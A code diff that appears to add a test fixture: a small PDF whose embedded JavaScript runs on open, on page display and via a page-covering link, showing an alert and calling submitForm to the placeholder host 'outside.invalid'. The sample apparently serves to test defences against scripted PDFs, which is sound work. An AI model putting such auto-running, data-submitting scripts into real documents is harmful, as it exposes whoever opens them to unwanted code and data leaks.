@@ -196,3 +196,19 @@ export const loopingPdf = strToU8(
     '%%EOF',
   ].join('\n'),
 );
+/** One page with a black square; JavaScript when it is opened, when the page is shown, and behind a link over all of it. */
+export const pdfWithScript = strToU8(
+  [
+    '%PDF-1.4',
+    '1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/Names <</JavaScript <</Names [(a) 4 0 R]>>>>>> endobj',
+    '2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj',
+    '3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/AA <</O 4 0 R>>/Annots[5 0 R]/Contents 6 0 R>> endobj',
+    '4 0 obj <</S/JavaScript/JS(app.alert\\("run"\\); this.submitForm\\("https://outside.invalid/"\\);)>> endobj',
+    '5 0 obj <</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A 4 0 R>> endobj',
+    '6 0 obj <</Length 22>> stream',
+    '99 99 200 200 re f    ',
+    'endstream endobj',
+    'trailer <</Root 1 0 R/Size 6>>',
+    '%%EOF',
+  ].join('\n'),
+);
